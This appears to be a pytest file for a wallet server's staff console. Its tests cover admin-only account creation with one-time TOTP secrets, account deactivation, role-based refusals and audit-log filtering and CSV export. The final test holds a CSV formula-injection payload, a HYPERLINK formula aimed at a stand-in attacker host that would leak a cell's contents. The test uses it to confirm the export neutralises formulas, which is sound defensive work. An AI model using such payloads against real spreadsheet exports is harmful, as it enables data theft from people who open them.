"""Staff accounts (admin only) and the audit log's filters and export."""

import csv
import io
import re

from tests.console.test_core import audit_rows
from tests.console_pages import PASSWORD, log_in
from wallet_server.users.models import Role


def test_admin_creates_an_account_whose_second_factor_is_shown_once(console_login, console_app):
    admin = console_login(Role.ADMIN)
    created = admin.post(
        "/console/users",
        {
            "username": "Camille",
            "display_name": "Camille",
            "role": "coordinator",
            "password": PASSWORD,
        },
    )
    assert created.status_code == 200
    secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', created.get_data(as_text=True)).group(1)
    newcomer = console_app.test_client()
    assert log_in(newcomer, "camille", secret).status_code == 302
    assert secret not in admin.get("/console/users").get_data(as_text=True)


def test_account_rules_deactivation_and_totp_reset(console_login, console_app, sessions):
    admin = console_login(Role.ADMIN)
    short = admin.post(
        "/console/users", {"username": "x1", "role": "committee", "password": "short"}
    )
    assert short.status_code == 422
    assert "10 caractères" in short.get_data(as_text=True)
    no_shop = admin.post(
        "/console/users", {"username": "x2", "role": "shop_manager", "password": PASSWORD}
    )
    assert no_shop.status_code == 422
    coordinator = console_login(Role.COORDINATOR)
    assert (
        admin.post(f"/console/users/{coordinator.user.id}/active", {"active": "no"}).status_code
        == 302
    )
    assert coordinator.get("/console/participants").status_code == 302  # logged out at once
    assert admin.post(f"/console/users/{admin.user.id}/active", {"active": "no"}).status_code == 422
    reset = admin.post(f"/console/users/{coordinator.user.id}/totp")
    new_secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', reset.get_data(as_text=True)).group(1)
    admin.post(f"/console/users/{coordinator.user.id}/active", {"active": "yes"})
    client = console_app.test_client()
    assert log_in(client, coordinator.user.username, new_secret).status_code == 302
    actions = [row.action for row in audit_rows(sessions, actor=admin.user.username)]
    assert {"user.active", "user.totp_reset"} <= set(actions)


def test_only_admins_manage_accounts(console_login, sessions):
    for role in (Role.COORDINATOR, Role.COMMITTEE):
        member = console_login(role)
        assert member.get("/console/users").status_code == 403
        assert (
            member.post(
                "/console/users", {"username": "mole", "role": "admin", "password": PASSWORD}
            ).status_code
            == 403
        )
    refused = audit_rows(sessions, outcome="refused")
    assert len(refused) == 4
    assert {row.action for row in refused} == {"denied:console.users", "denied:console.user_create"}


def test_audit_filters_and_export(console_login, sessions):
    coordinator = console_login(Role.COORDINATOR)
    coordinator.post(
        "/console/participants/new",
        {"name": "Driss K.", "household_size": "2", "enrolled_month": "2026-11"},
    )
    committee = console_login(Role.COMMITTEE)
    committee.post("/console/participants/new", {"name": "Z"})  # refused, audited
    page = committee.get("/console/audit?outcome=refused").get_data(as_text=True)
    assert "denied:console.participant_create" in page
    assert "participant.enroll" not in page
    by_action = committee.get("/console/audit?action=participant").get_data(as_text=True)
    assert "participant.enroll" in by_action
    export = committee.get(f"/console/audit.csv?actor={coordinator.user.username}")
    assert export.headers["Content-Type"].startswith("text/csv")
    rows = list(
        csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    assert rows[0][:4] == ["at", "actor", "role", "action"]
    assert {row[3] for row in rows[1:]} == {"login", "participant.enroll"}
    manager_page = console_login(Role.COORDINATOR).get(
        "/console/audit?since=2000-01-01&until=2099-12-31"
    )
    assert manager_page.status_code == 200


def test_an_export_never_carries_a_live_formula(console_app, console_login):
    """A stranger's failed login is audited with the name they typed: in the audit export a
    spreadsheet must show it as text, never run it."""
    typed = '=hyperlink("http://evil.example/?"&a1;"x")'
    refused = log_in(console_app.test_client(), typed, "JBSWY3DPEHPK3PXPJBSWY3DP", password="x")
    assert refused.status_code == 401
    export = console_login(Role.COORDINATOR).get("/console/audit.csv?action=login")
    rows = list(
        csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    actors = [row[1] for row in rows[1:]]
    assert "'" + typed in actors
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
